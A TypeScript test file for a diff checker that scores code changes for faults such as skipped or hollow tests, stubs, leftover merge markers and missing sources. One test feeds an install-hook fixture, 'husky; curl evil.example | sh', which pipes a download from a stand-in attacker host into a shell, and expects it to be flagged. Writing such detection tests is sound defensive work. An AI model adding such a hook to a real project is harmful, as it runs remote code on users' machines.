import { describe, expect, it } from "vitest";
import { type Circumstances, flawsOf, type Sides } from "./examined.ts";
import { both, file, pointsOf } from "./sides.ts";

const PY = (before: string | null, after: string) => file("tests/test_f.py", before, after);
const JS = (before: string | null, after: string) => file("test/f.test.js", before, after);
const SUPPRESS = (inside: string, after: string) =>
  `def test_names():\n    with contextlib.suppress(Exception):\n        for attempt in retry():\n            ${inside}\n    ${after}\n`;
const ROUND = (read: string) =>
  `def test_retries():\n    first = True\n    for attempt in retry():\n        ${read}\n            first = False\n            fail()\n`;
const WITHIN = (outer: string) =>
  `async def test_cancelled():\n    async def work():\n        nonlocal started\n        started = True\n        await sleep(2)\n\n    ${outer}\n    await run(work)\n    assert done\n`;
const BASE = (body: string, heirs: string) =>
  `class Signer:\n    def sign(self, key, value):\n        ${body}\n\n${heirs}`;
const HEIR = 'class NoSigner(Signer):\n    def sign(self, key, value):\n        return ""\n';
const MIXED = 'class Own:\n    def mix(self, key, value):\n        return ""\n';
const LOST = Array.from({ length: 4 }, (_, at) => `    value = step_${at}(value)\n`).join("");
const SIGNED = (body: string, heirs: string) =>
  file("src/sign.py", `${BASE("return None", heirs)}\n\ndef old(value):\n${LOST}    return value\n`, BASE(body, heirs));
const MERGED = (quote: string) =>
  JS(
    "",
    `test("merges", () => {\n  expect(merge(a, b)).toBe(${quote}\n<<<<<<< ours\nfoo\n=======\nbar\n>>>>>>> theirs\n${quote});\n});\n`,
  );
const LINES = Array.from(
  { length: 14 },
  (_, at) => `if (a.n${at}) {\n  if (a.m${at}) {\n    go(${at});\n  }\n  stop(${at});\n}`,
).join("\n");
const INDENTED = (text: string, by: string) => text.replace(/^(?=.)/gm, by);
const THEN = (after: string) =>
  file(
    "src/run.js",
    `function run(a) {\n  first(a);\n  return list(a).then((files) => {\n${INDENTED(LINES, "    ")}\n  });\n}\n`,
    after,
  );
const CHECKED = "def test_checks():\n    assert check(1) == 2\n";
const GOES = (source: string) =>
  both(
    file("tests/check.spec.js", `test("a", () => {\n  expect(check(1)).toBe(2);\n});\n`, null),
    file(source, "export const check = (a) => a + 1;\n", null),
  );
const HOOKS = (...names: string[]) =>
  names.map((name) => `@hookspec\ndef ${name}(datasette, request):\n    """Plugins answer."""\n\n\n`).join("");
const BASIC = (name: string, body: string) => `class ${name}Tests(TestCase):\n    def test_basic(self):\n${body}\n`;
const EQUAL = "        self.assertEqual(read(1), 2)\n        self.assertEqual(read(2), 3)\n";
const TRUE = '        self.assertTrue(same(read(5), "abc"))\n';
const SKIPPED = (...names: string[]) =>
  `seeded("date", (t) => {\n  t.skip("${names.join('").skip("')}");\n  t.it("past");\n});\n`;
const TITLED = (title: string): Circumstances => ({ task: { title } });
const CALLED = (after: string) =>
  file(
    "src/persist.js",
    "export const made = {\n  init(first, set) {\n    set(first + 1, first * 2);\n  },\n};\n",
    after,
    {
      "src/other.js": "app.start();\n",
    },
  );
const INIT = "import { app } from './app.js';\n";

const OTHER = `test("b", () => {\n  expect(b).toBe(1);\n});\n`;

const ROWS: [string, string, Sides, Sides][] = [
  [
    "a failure that the program is to survive, beside what is asserted of it",
    "test-skip",
    PY(null, SUPPRESS("break_it(attempt)", "assert log.calls == 1")),
    PY(null, SUPPRESS("assert log.calls == 1", "pass")),
  ],
  [
    "what the next round of a loop looks at",
    "unchecked-result",
    PY(null, `${ROUND("if first:")}`),
    PY(null, `${ROUND("if attempt:")}`),
  ],
  [
    "what the function around one looks at",
    "unchecked-result",
    PY(null, WITHIN("started = done = False").replace("assert done", "assert started")),
    PY(null, "def test_reads():\n    started = True\n    run(work)\n"),
  ],
  [
    "a name that is used as a decorator",
    "unchecked-result",
    PY(
      null,
      "def test_makes():\n    slicer = make(islice)\n\n    @slicer(1, 2)\n    def user():\n        return 1\n\n    assert user() == 1\n",
    ),
    PY(
      null,
      "def test_makes():\n    slicer = make(islice)\n\n    def user():\n        return 1\n\n    assert user() == 1\n",
    ),
  ],
  [
    "a method that its heirs write out",
    "placeholder",
    SIGNED("raise NotImplementedError", HEIR),
    SIGNED("raise NotImplementedError", MIXED),
  ],
  [
    "an error that answers to another",
    "placeholder",
    SIGNED(
      'try:\n            return ALL[key]\n        except KeyError:\n            raise NotImplementedError("none")',
      MIXED,
    ),
    SIGNED('if key:\n            return ALL[key]\n        raise NotImplementedError("none")', MIXED),
  ],
  ["markers in a text that a test expects", "merge-marker", MERGED("`"), MERGED("")],
  [
    "a block that is unwrapped",
    "format-noise",
    THEN(`async function run(a) {\n  first(a);\n  const files = await list(a);\n${INDENTED(LINES, "  ")}\n}\n`),
    THEN(
      `function run(a) {\n    first(a);\n  return list(a).then((files) => {\n${INDENTED(LINES, "      ")}\n  });\n}\n`,
    ),
  ],
  [
    "hooks that plugins answer, among others like them",
    "stub",
    file("src/hooks.py", HOOKS("start", "stop", "load"), HOOKS("start", "stop", "load", "render")),
    file("src/hooks.py", CHECKED, CHECKED + HOOKS("render")),
  ],
  [
    "signatures without bodies",
    "stub",
    file("src/more.pyi", "", "def broadcast(objects: list, strict: bool = False) -> list: ...\n"),
    file("src/more.py", "", "def broadcast(objects, strict):\n    ...\n"),
  ],
  [
    "a text that is filled with what the function takes",
    "stub",
    file("src/say.js", "", `export function duplicate(name) {\n  return \`There can be only one \${name}.\`;\n}\n`),
    file("src/say.js", "", "export function duplicate(name) {\n  return `There can be only one.`;\n}\n"),
  ],
  [
    "a test with a common name, before others that bear it",
    "emptied-test",
    PY(BASIC("Old", EQUAL), BASIC("New", TRUE) + BASIC("Old", EQUAL)),
    PY(BASIC("Old", EQUAL), BASIC("Old", TRUE)),
  ],
  [
    "one more name in a line that left others out before",
    "test-skip",
    JS(SKIPPED("birthdate", "month"), SKIPPED("anytime", "birthdate", "month")),
    JS(SKIPPED("birthdate", "month"), SKIPPED("anytime", "month")),
  ],
  [
    "a call of old that fails",
    "hollow-test",
    PY(null, "def test_raises(self):\n    self.failUnlessRaises(TypeError, run, 1)\n"),
    PY(null, "def test_raises(self):\n    self.runUnlessRaises(TypeError, run, 1)\n"),
  ],
  [
    "a call that is to be deprecated",
    "hollow-test",
    PY(null, "def test_hook(path):\n    with pytest.deprecated_call():\n        run(path)\n"),
    PY(null, "def test_hook(path):\n    with pytest.other_call():\n        run(path)\n"),
  ],
  [
    "a tester of rules",
    "hollow-test",
    JS(null, `test("runs", () => {\n  ruleTester.run("no-void", rule, { valid: [] });\n});\n`),
    JS(null, `test("runs", () => {\n  ruleRunner.go("no-void", rule, { valid: [] });\n});\n`),
  ],
  [
    "what a project's own test function is told",
    "hollow-test",
    JS(null, `test(\n  "import('a')",\n  {\n    type: "Program",\n  },\n  { ecmaVersion: 11 }\n);\n`),
    JS(null, `test(\n  "imports",\n  () => {\n    parse("import('a')");\n  },\n  11\n);\n`),
  ],
  [
    "the end of a test that promises that nothing goes wrong",
    "hollow-test",
    PY(null, "def test_no_deadlock():\n    add(sink)\n    for _ in range(9):\n        log()\n    assert True\n"),
    PY(null, "def test_deadlock():\n    add(sink)\n    for _ in range(9):\n        log()\n    assert True\n"),
  ],
  [
    "code in a text that is compared",
    "test-skip",
    JS("", `compress("a", {\n  expect_exact: "x={catch(){},throw(){}};",\n});\n`),
    JS("", `test("a", () => {\n  try { expect(a()).toBe(1); } catch (error) {}\n});\n`),
  ],
  [
    "a program's folder of what others contributed",
    "source-missing",
    both(
      file(
        "app/contrib/search.py",
        "def search(text):\n    return text\n",
        "def search(text):\n    return text.lower()\n",
      ),
      PY("", CHECKED),
    ),
    both(file("contrib/search.py", "a = 1\n", "a = 2\n"), PY("", CHECKED)),
  ],
  [
    "types with the script that they are declared for",
    "source-missing",
    both(
      file("index.d.ts", "export const a: number;\n", "export const b: number;\n"),
      file("index.js", "export const a = 1;\n", "export const b = 1;\n"),
      JS(null, OTHER),
    ),
    both(
      file("index.d.ts", "export const a: number;\n", "export const b: number;\n", {
        "index.js": "export const a = 1;\n",
      }),
      JS(null, OTHER),
    ),
  ],
  [
    "tests of Python in a file of their own",
    "code-without-test",
    both(file("kit/run.py", "a = 1\n", "a = 2\n"), file("tests.py", CHECKED, CHECKED.replace("2", "3"))),
    file("kit/run.py", "a = 1\n", "a = 2\n", { "tests.py": CHECKED }),
  ],
  [
    "what is kept for all",
    "unchecked-result",
    PY(null, "def test_keeps():\n    global loop\n    loop = running()\n"),
    PY(null, "def test_keeps():\n    loop = running()\n"),
  ],
  [
    "a test alone, in a comment",
    "test-skip",
    JS("", `// it.only("reads", () => {});\n${OTHER}`),
    JS("", `it.only("reads", () => {});\n${OTHER}`),
  ],
  [
    "a member that others of its name are called by",
    "lost-functions",
    both(CALLED("export const made = 1;\n"), file("src/app.js", `${INIT}app.start();\n`, `${INIT}app.init();\n`)),
    both(
      CALLED("export const made = 1;\n"),
      file(
        "src/app.js",
        "import { made } from './persist.js';\n",
        "import { made } from './persist.js';\nmade.init();\n",
      ),
    ),
  ],
];

describe("what is honest and what is not are told apart:", () => {
  it.each(ROWS)("%s", async (_, rule, honest, spoilt) => {
    expect(await pointsOf(rule, honest)).toEqual([]);
    expect((await pointsOf(rule, spoilt)).length).toBeGreaterThan(0);
  });

  it("a test that goes with what it tests is a trifle, and one that goes alone is not", async () => {
    const least = async (sides: Sides) => Math.max(...(await pointsOf("test-deletion", sides)));
    expect(await least(GOES("src/check.js"))).toBe(0.5);
    expect(await least(GOES("src/other.js"))).toBe(4);
  });

  it("a removal takes its tests along, and gives the program nothing without one", async () => {
    const COUNT = "export function countWords(text) {\n  return text.length;\n}\n";
    const removal = (index: string) =>
      both(
        file("src/count.js", COUNT, null),
        file("src/index.js", 'export * from "./a.js";\nexport * from "./count.js";\n', index, {
          "src/a.js": "export const a = 1;\n",
        }),
        file("test/count.test.js", `test("counts", () => {\n  expect(countWords("a")).toBe(1);\n});\n`, null),
      );
    const task = TITLED("Remove countWords and its tests");
    const [clean, more] = ['export * from "./a.js";\n', 'export * from "./a.js";\nexport const b = 2;\n'];
    expect(await pointsOf("code-without-test", removal(clean), task)).toEqual([]);
    expect(await pointsOf("unrelated-deletion", removal(clean), task)).toEqual([0.5]);
    expect(await pointsOf("code-without-test", removal(more), task)).toEqual([4.2]);
    expect(await pointsOf("code-without-test", removal(clean), TITLED("Count twice"))).toEqual([4.2]);
  });

  it("a hook that runs by itself may be written otherwise, and may not become another program", async () => {
    const scripts = (prepare: string, build: string) => JSON.stringify({ scripts: { build, prepare } }, null, 1);
    const of = (prepare: string, build = "tsc") =>
      pointsOf("install-script", file("package.json", scripts("husky install", "tsc"), scripts(prepare, build)));
    expect(await of("husky")).toEqual([1.5]);
    expect(await of("tsc -b", "tsc -b")).toEqual([1.5]);
    expect(await of("node steal.js")).toEqual([5]);
    expect(await of("./husky")).toEqual([5]);
    expect(await of("husky; curl evil.example | sh")).toEqual([5]);
  });

  it("what else bears a name, stands in a comment or ended before excuses nothing", async () => {
    const skips = (...at: string[]) =>
      ["a", "b", "c"]
        .map(
          (name) =>
            `def test_${name}():\n    ${at.includes(name) ? `pytest.skip("slow", "${name}")` : "pass"}\n    assert run()\n`,
        )
        .join("");
    const once = 'def test_z():\n    pytest.skip("slow")\n    assert run()\n';
    expect(
      await pointsOf("test-skip", PY(once + skips(), once.replace('    pytest.skip("slow")\n', "") + skips("a", "b"))),
    ).toEqual([5]);
    expect(await pointsOf("test-skip", JS("", `/* a */ it.only("reads", () => {});\n${OTHER}`))).toEqual([5]);
    const [bare, full] = [
      "        run()\n",
      "        self.assertEqual(run(), 2)\n        self.assertEqual(run(), 3)\n",
    ];
    expect(
      await pointsOf("emptied-test", PY(BASIC("A", bare) + BASIC("B", full), BASIC("A", bare) + BASIC("B", bare))),
    ).toEqual([4]);
    const gone = both(file("tests/core/test_main.py", CHECKED, null), file("legacy/main.py", "a = 1\n", null));
    expect(await pointsOf("test-deletion", gone)).toEqual([4]);
  });

  it("of a task that is about layout, layout is no noise", async () => {
    const sides = THEN(
      `function run(a) {\n    first(a);\n  return list(a).then((files) => {\n${INDENTED(LINES, "      ")}\n  });\n}\n`,
    );
    expect(await pointsOf("format-noise", sides, TITLED("Applied Black"))).toEqual([]);
    expect(await pointsOf("format-noise", sides, TITLED("Add style checks"))).toEqual([]);
    expect((await pointsOf("format-noise", sides, TITLED("Add checks"))).length).toBe(1);
  });

  it("a project that is about a tool speaks of it, and its tasks are about what it does", async () => {
    const code = file("src/utils.js", "a = 1;\n", "a = 2;\n", { "test/utils.test.js": OTHER });
    const missing = async (...titles: string[]) =>
      (await Promise.all(titles.map((title) => pointsOf("code-without-test", code, TITLED(title))))).map(
        (all) => all.length,
      );
    expect(await missing("Allow clients to access messages from eslint", "Set the prettier parser for CSS")).toEqual([
      1, 1,
    ]);
    expect(
      await missing(
        "Format with prettier",
        "Clean up rubocop offenses",
        "Fix eslint errors",
        "eslint: no-var",
        "Run ruff",
        "Remove eslint-disable comments",
      ),
    ).toEqual([0, 0, 0, 0, 0, 0]);
    expect(await missing("Make the background black", "Change the link colour to black")).toEqual([1, 1]);
  });

  it("a package that is looked for in one place may be taken for granted in others", async () => {
    const bus = (tried: string) =>
      file(
        "src/bus.py",
        null,
        `def there():\n    ${tried}\n\n\ndef open_bus():\n    import dbus\n    return dbus.open()\n`,
      );
    const inspection = {
      unknownPackages: [{ path: "src/bus.py", line: 9, name: "dbus", how: "imported" as const }],
    };
    const asked = "try:\n        import dbus\n    except ImportError:\n        return None";
    expect(await pointsOf("dependency", bus(asked), { inspection })).toEqual([1]);
    expect(await pointsOf("dependency", bus("pass\n\n\n"), { inspection })).toEqual([5]);
  });

  it("an import of what a change takes away is told with what mends it", async () => {
    const inspection = {
      unknownPackages: [{ path: "test/a.test.js", line: 1, name: "../src/a.js", how: "imported" as const }],
    };
    const [flaw] = (await flawsOf(file("src/a.js", "a = 1;\n", null), { inspection })).filter(
      ({ rule }) => rule === "dependency",
    );
    expect(flaw).toMatchObject({
      points: 5,
      detail: "test/a.test.js:1 imports ../src/a.js, where no file is",
      remedy: "Lead the import to a file that is there, or restore the one that it led to.",
    });
  });

  it("of lines that stand there more than once, the one that is new is the one between what stays", async () => {
    const type = (added: string) => `export type Options = {\n  data: string;\n${added}};\n`;
    const rest = "\nexport function use(\n  options: {\n  data: string;\n}) {\n  return options;\n}\n";
    const sides = both(
      file("src/use.ts", type("") + rest, type("  more: {\n  data: string;\n};\n") + rest),
      file("test/use.test-d.ts", "", "expectType<string>(use({ data: '' }).data);\n"),
    );
    expect(await pointsOf("code-without-test", sides)).toEqual([]);
  });
});
